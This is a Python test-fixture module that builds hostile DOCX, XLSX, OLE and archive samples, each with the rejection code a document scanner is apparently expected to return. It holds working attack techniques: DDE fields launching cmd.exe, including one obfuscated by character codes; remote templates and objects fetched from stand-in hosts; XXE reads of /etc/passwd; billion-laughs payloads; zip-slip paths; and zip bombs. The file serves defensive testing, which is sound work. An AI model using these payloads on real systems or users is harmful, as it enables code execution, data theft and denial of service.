"""Hostile office files and archives, each made here: label, file name, maker of the bytes, expected code."""

from __future__ import annotations

import struct
import zlib
from collections.abc import Mapping
from io import BytesIO
from zipfile import ZIP_BZIP2, ZIP_DEFLATED, ZIP_STORED, ZipFile, ZipInfo

from tests.adapters.inspection.hostile_pdfs import Maker

MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
MACRO_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"
SHEET_MAIN = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
WORD = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def types(main: str = MAIN, more: str = "") -> str:
    override = f'<Override PartName="/word/document.xml" ContentType="{main}"/>{more}'
    return f'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">{override}</Types>'


def document(inside: str = "") -> str:
    return f"<w:document {WORD}><w:body><w:p>{inside}</w:p></w:body></w:document>"


def relations(kind: str, target: str, mode: str = "External") -> str:
    one = f'<Relationship Id="rId1" Type="{REL}/{kind}" Target="{target}" TargetMode="{mode}"/>'
    return f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{one}</Relationships>'


def packed(parts: Mapping[str, str | bytes], method: int = ZIP_DEFLATED) -> bytes:
    out = BytesIO()
    with ZipFile(out, "w", method) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return out.getvalue()


def docx(main: str = MAIN, body: str = "", types_more: str = "", **more: str | bytes) -> bytes:
    """A small valid DOCX; further parts by path, with "__" for "/" and "_dot_" for "."."""
    parts: dict[str, str | bytes] = {
        "[Content_Types].xml": types(main, types_more),
        "word/document.xml": document(body),
    }
    parts |= {name.replace("__", "/").replace("_dot_", "."): data for name, data in more.items()}
    return packed(parts)


def with_relation(kind: str, target: str, mode: str = "External") -> bytes:
    return docx(word___rels__document_dot_xml_dot_rels=relations(kind, target, mode))


def with_entry(info: ZipInfo | str, data: bytes = b"x") -> bytes:
    out = BytesIO(docx())
    with ZipFile(out, "a", ZIP_DEFLATED) as archive:
        archive.writestr(info, data)
    return out.getvalue()


def symlink() -> bytes:
    info = ZipInfo("word/media/gambar.png")
    info.create_system = 3
    info.external_attr = 0o120777 << 16
    return with_entry(info, b"/etc/passwd")


def claims_ten_gigabytes() -> bytes:
    """The directory and the header of one entry claim 4 GB each; three such entries stand in it."""
    data = docx(word__a_dot_bin=b"a" * 100, word__b_dot_bin=b"b" * 100, word__c_dot_bin=b"c" * 100)
    return data.replace(struct.pack("<I", 100), struct.pack("<I", 0xFFFFFFF0))


def really_large() -> bytes:
    return docx(word__a_dot_bin=bytes(120 * 1024 * 1024))


def lies_about_size() -> bytes:
    """Unpacks to 120 MB, claims 100 bytes."""
    true = 120 * 1024 * 1024
    return docx(word__a_dot_bin=bytes(true)).replace(struct.pack("<I", true), struct.pack("<I", 100))


def nested(depth: int) -> bytes:
    inner = docx()
    for _level in range(depth):
        inner = docx(word__embeddings__a_dot_docx=inner)
    return inner


def overlapping() -> bytes:
    """A thousand entries of the directory point to one and the same megabyte."""
    kernel = zlib.compress(bytes(1024 * 1024), 9)[2:-4]
    name = b"word/a.bin"
    check = zlib.crc32(bytes(1024 * 1024))
    local = struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0, check, len(kernel), 1024 * 1024, len(name), 0)
    body = local + name + kernel
    row = struct.pack(
        "<IHHHHHHIIIHHHHHII",
        0x02014B50,
        20,
        20,
        0,
        8,
        0,
        0,
        check,
        len(kernel),
        1024 * 1024,
        len(name),
        0,
        0,
        0,
        0,
        0,
        0,
    )
    rows = (row + name) * 50
    return body + rows + struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 50, 50, len(rows), len(body), 0)


def many_entries() -> bytes:
    parts: dict[str, str | bytes] = {"[Content_Types].xml": types(), "word/document.xml": document()}
    return packed(parts | {f"word/{number}": b"" for number in range(100_000)}, ZIP_STORED)


def encrypted_entry() -> bytes:
    """The flag of encryption is set in every header."""
    data = bytearray(docx())
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = data.find(mark)
        while at >= 0:
            data[at + offset] |= 1
            at = data.find(mark, at + 4)
    return bytes(data)


def laughs() -> str:
    rows = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    return f'<!DOCTYPE x [<!ENTITY l0 "ha">{rows}]>{document("&l9;")}'


def outside_entity() -> str:
    return f'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>{document("&e;")}'


def with_document(text: str | bytes) -> bytes:
    return packed({"[Content_Types].xml": types(), "word/document.xml": text})


def split_field(*pieces: str) -> str:
    runs = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    return f'<w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}<w:r><w:fldChar w:fldCharType="end"/></w:r>'


def spelt_field() -> str:
    """The word DDE is spelt by an inner field, from the numbers of its letters."""
    inner = split_field("QUOTE 68 68 69 65 85 84 79")
    end = '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    rest = '<w:r><w:instrText> c:\\\\windows\\\\cmd.exe "/k calc"</w:instrText></w:r>'
    return f'<w:r><w:fldChar w:fldCharType="begin"/></w:r>{inner}{rest}{end}'


def ole(stream: str) -> bytes:
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(1000) + stream.encode("utf-16-le") + bytes(1000)


def xlsx(**more: str | bytes) -> bytes:
    return docx(SHEET_MAIN, "", "", **more)


VBA = '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
CHUNK = '<w:altChunk xmlns:r="x" r:id="rId9"/>'

RECIPES: list[tuple[str, str, Maker, str]] = [
    ("macro document", "surat.docm", lambda: docx(MACRO_MAIN), "UNG-04"),
    ("macro document renamed", "surat.docx", lambda: docx(MACRO_MAIN), "UNG-04"),
    ("macro part in a plain document", "surat.docx", lambda: docx(word__vbaProject_dot_bin=b"x"), "UNG-04"),
    ("macro part under another name", "surat.docx", lambda: docx(types_more=VBA, word__gambar_dot_bin=b"x"), "UNG-04"),
    ("macro by relation", "surat.docx", lambda: with_relation("vbaProject", "a.bin", "Internal"), "UNG-04"),
    ("ActiveX control", "surat.docx", lambda: docx(word__activeX__activeX1_dot_xml="<a/>"), "UNG-04"),
    (
        "macro inside an embedded table",
        "surat.docx",
        lambda: docx(word__embeddings__a_dot_xlsx=xlsx(xl__vbaProject_dot_bin=b"x")),
        "UNG-04",
    ),
    ("DDE field", "surat.docx", lambda: docx(body=split_field("DDEAUTO c:\\cmd.exe")), "UNG-21"),
    ("DDE cut over runs", "surat.docx", lambda: docx(body=split_field("D", "DE", "AUTO cmd")), "UNG-21"),
    ("DDE in a simple field", "surat.docx", lambda: docx(body='<w:fldSimple w:instr=" dde cmd"/>'), "UNG-21"),
    ("DDE spelt by numbers", "surat.docx", lambda: docx(body=spelt_field()), "UNG-21"),
    ("DDE formula", "tabel.xlsx", lambda: xlsx(xl__a_dot_xml="<c><f>cmd|'/c calc'!A0</f></c>"), "UNG-21"),
    ("DDE link of a table", "tabel.xlsx", lambda: xlsx(xl__a_dot_xml='<ddeLink ddeService="cmd"/>'), "UNG-21"),
    (
        "template from the web",
        "surat.docx",
        lambda: with_relation("attachedTemplate", "http://x.example/a.dotm"),
        "UNG-22",
    ),
    ("template from a share", "surat.docx", lambda: with_relation("attachedTemplate", "file://jahat/a.dotm"), "UNG-22"),
    ("picture from the web", "surat.docx", lambda: with_relation("image", "https://x.example/a.png"), "UNG-22"),
    ("picture from a file", "surat.docx", lambda: with_relation("image", "file:///etc/passwd"), "UNG-22"),
    ("object from the web", "surat.docx", lambda: with_relation("oleObject", "mhtml:http://x.example!x"), "UNG-22"),
    ("outside without saying so", "surat.docx", lambda: with_relation("frame", "\\\\jahat\\a", "Internal"), "UNG-22"),
    ("link that runs", "surat.docx", lambda: with_relation("hyperlink", "javascript:alert(1)"), "UNG-22"),
    ("link to a share", "surat.docx", lambda: with_relation("hyperlink", "file://jahat/bagi"), "UNG-22"),
    ("fetching field", "surat.docx", lambda: docx(body=split_field('INCLUDEPICTURE "http://x.example/a"')), "UNG-22"),
    ("fetching formula", "tabel.xlsx", lambda: xlsx(xl__a_dot_xml='<f>WEBSERVICE("http://x")</f>'), "UNG-22"),
    ("billion laughs", "surat.docx", lambda: with_document(laughs()), "UNG-23"),
    ("outside entity", "surat.docx", lambda: with_document(outside_entity()), "UNG-23"),
    ("outside entity in UTF-16", "surat.docx", lambda: with_document(outside_entity().encode("utf-16")), "UNG-23"),
    (
        "outside entity in a relation",
        "surat.docx",
        lambda: docx(word___rels__a_dot_rels='<!DOCTYPE a SYSTEM "http://x.example/a.dtd"><a/>'),
        "UNG-23",
    ),
    ("path that leads out", "surat.docx", lambda: with_entry("../../etc/cron.d/a"), "UNG-24"),
    ("path from the root", "surat.docx", lambda: with_entry("/etc/passwd"), "UNG-24"),
    ("path of a drive", "surat.docx", lambda: with_entry("C:/Windows/a.dll"), "UNG-24"),
    ("path with backslashes", "surat.docx", lambda: with_entry("word\\..\\..\\a"), "UNG-24"),
    ("symbolic link", "surat.docx", symlink, "UNG-24"),
    ("the same part twice", "surat.docx", lambda: with_entry("WORD/document.xml", document().encode()), "UNG-24"),
    ("claims ten gigabytes", "surat.docx", claims_ten_gigabytes, "UNG-16"),
    ("really large", "surat.docx", really_large, "UNG-16"),
    ("hundred thousand entries", "surat.docx", many_entries, "UNG-16"),
    ("entries over one another", "surat.docx", overlapping, "UNG-16"),
    ("nested six deep", "surat.docx", lambda: nested(6), "UNG-16"),
    ("lies about its size", "surat.docx", lies_about_size, "UNG-27"),
    (
        "unusual packing",
        "surat.docx",
        lambda: packed({"[Content_Types].xml": types(), "word/document.xml": document()}, ZIP_BZIP2),
        "UNG-27",
    ),
    ("cut in the middle", "surat.docx", lambda: docx()[:200], "UNG-27"),
    ("broken markup", "surat.docx", lambda: with_document("<w:document><nope>"), "UNG-27"),
    ("archive inside", "surat.docx", lambda: docx(word__a_dot_bin=packed({"a.exe": b"MZ"})), "UNG-30"),
    ("embedded old object", "surat.docx", lambda: docx(word__embeddings__oleObject1_dot_bin=ole("Package")), "UNG-30"),
    ("embedded program", "surat.docx", lambda: docx(word__media__a_dot_png=b"MZ\x90\x00"), "UNG-30"),
    ("web page as a part of the text", "surat.docx", lambda: docx(word__afchunk_dot_mht=b"<html><script>"), "UNG-30"),
    ("foreign text by reference", "surat.docx", lambda: docx(body=CHUNK), "UNG-30"),
    ("bytes before", "surat.docx", lambda: b"PK\x03\x04 palsu" + docx(), "UNG-15"),
    ("bytes behind", "surat.docx", lambda: docx() + b"sisa", "UNG-15"),
    (
        "PDF at the front",
        "surat.docx",
        lambda: packed(
            {"a": b"%PDF-1.7 ", "[Content_Types].xml": types(), "word/document.xml": document()}, ZIP_STORED
        ),
        "UNG-15",
    ),
    ("locked part", "surat.docx", encrypted_entry, "UNG-10"),
    ("locked document", "surat.docx", lambda: ole("EncryptedPackage"), "UNG-10"),
    ("old Word", "surat.doc", lambda: ole("WordDocument"), "UNG-20"),
    ("old Word renamed", "surat.docx", lambda: ole("WordDocument"), "UNG-20"),
    ("old Word with macros", "surat.doc", lambda: ole("_VBA_PROJECT"), "UNG-04"),
    ("plain archive", "berkas.zip", lambda: packed({"surat.pdf": b"%PDF"}), "UNG-09"),
    ("archive called a document", "berkas.docx", lambda: packed({"42.zip": packed({"a": b"a"})}), "UNG-09"),
    ("RAR", "berkas.rar", lambda: b"Rar!\x1a\x07\x01\x00" + bytes(100), "UNG-09"),
    ("7-Zip", "berkas.7z", lambda: b"7z\xbc\xaf\x27\x1c" + bytes(100), "UNG-09"),
    ("OpenDocument", "surat.odt", lambda: packed({"mimetype": "application/vnd.oasis.opendocument.text"}), "UNG-03"),
    ("table among papers", "tabel.docx", xlsx, "UNG-05"),
]
